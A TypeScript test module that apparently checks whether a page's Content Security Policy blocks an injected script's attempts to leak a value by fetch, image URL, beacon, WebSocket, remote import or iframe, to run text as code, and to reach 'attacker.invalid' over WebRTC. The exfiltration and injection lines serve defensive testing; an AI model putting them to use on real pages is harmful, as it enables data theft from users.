import type { Attack, AttackOutcome } from '../core/attack.ts';
import { somewhere } from './somewhere.ts';
import { type Expected, violationDuring } from './violation.ts';

const socket = `${somewhere.replace('https', 'wss')}socket`;

/** Two rules forbid it, and either may be the first to. */
const textAsCode: Expected = {
  blocked: /^(eval|inline|trusted-types-sink)$/,
  directive: /^(script-src|require-trusted-types-for)/,
};

/** What a script that got into the page would try. */
const attempts: readonly {
  readonly id: string;
  readonly title: string;
  readonly code: string;
  readonly expected: Expected;
  readonly act: () => unknown;
}[] = [
  {
    id: 'page-fetch',
    title: 'Send a value with fetch',
    code: `fetch('${somewhere}fetch?secret=42')`,
    expected: { blocked: `${somewhere}fetch`, directive: /^connect-src/ },
    act: () => fetch(`${somewhere}fetch?secret=42`),
  },
  {
    id: 'page-image',
    title: 'Hide a value in the address of a picture',
    code: `new Image().src = '${somewhere}image?secret=42'`,
    expected: { blocked: `${somewhere}image`, directive: /^img-src/ },
    act() {
      new Image().src = `${somewhere}image?secret=42`;
    },
  },
  {
    id: 'page-beacon',
    title: 'Send a beacon, as trackers do',
    code: `navigator.sendBeacon('${somewhere}beacon', 'secret=42')`,
    expected: { blocked: `${somewhere}beacon`, directive: /^connect-src/ },
    act: () => navigator.sendBeacon(`${somewhere}beacon`, 'secret=42'),
  },
  {
    id: 'page-socket',
    title: 'Open a WebSocket',
    code: `new WebSocket('${socket}')`,
    expected: { blocked: socket, directive: /^connect-src/ },
    act: () => new WebSocket(socket),
  },
  {
    id: 'page-eval',
    title: 'Run text as code',
    code: "new Function('return 42')()",
    expected: textAsCode,
    act: () => Reflect.construct(Function, ['return 42']),
  },
  {
    id: 'page-script',
    title: 'Put a script into the page',
    code: "document.head.append(script with the text 'window.stolen = 42')",
    expected: textAsCode,
    act() {
      const script = document.createElement('script');
      script.text = 'window.stolen = 42';
      document.head.append(script);
      script.remove();
    },
  },
  {
    id: 'page-import',
    title: 'Import a script from another machine',
    code: `import('${somewhere}script.js')`,
    expected: { blocked: `${somewhere}script.js`, directive: /^script-src/ },
    act: () => import(/* @vite-ignore */ `${somewhere}script.js`),
  },
  {
    id: 'page-frame',
    title: 'Show another site inside this one',
    code: `document.body.append(frame of '${somewhere}')`,
    expected: { blocked: somewhere.slice(0, -1), directive: /^frame-src/ },
    act() {
      const frame = document.createElement('iframe');
      frame.hidden = true;
      frame.src = somewhere;
      document.body.append(frame);
      setTimeout(() => frame.remove());
    },
  },
];

/** No policy of a browser covers it, so the page does without. */
const directLine: Attack = {
  id: 'page-direct-line',
  runner: 'page',
  title: 'Open a direct line to another machine (WebRTC)',
  code: `new RTCPeerConnection({ iceServers: [{ urls: 'stun:attacker.invalid' }] })`,
  attempt: () => Promise.resolve(tryDirectLine()),
};

function tryDirectLine(): AttackOutcome {
  return 'RTCPeerConnection' in window
    ? { kind: 'through', got: 'The page can open direct lines.' }
    : { kind: 'stopped', said: 'RTCPeerConnection is not defined: the page has taken it away from itself.' };
}

export function pageAttacks(): readonly Attack[] {
  const refused = attempts.map(
    ({ act, expected, ...each }): Attack => ({
      ...each,
      runner: 'page',
      attempt: () => tryInPage(act, expected),
    }),
  );
  return [...refused, directLine];
}

/** Stopped is what the browser itself reports as a violation of its policy, and nothing else. */
async function tryInPage(act: () => unknown, expected: Expected): Promise<AttackOutcome> {
  const violation = await violationDuring(act, expected);
  if (violation === undefined) return { kind: 'through', got: 'The browser has not refused it.' };
  return { kind: 'stopped', said: `Refused by the browser: ${violation.directive} of the page’s policy.` };
}
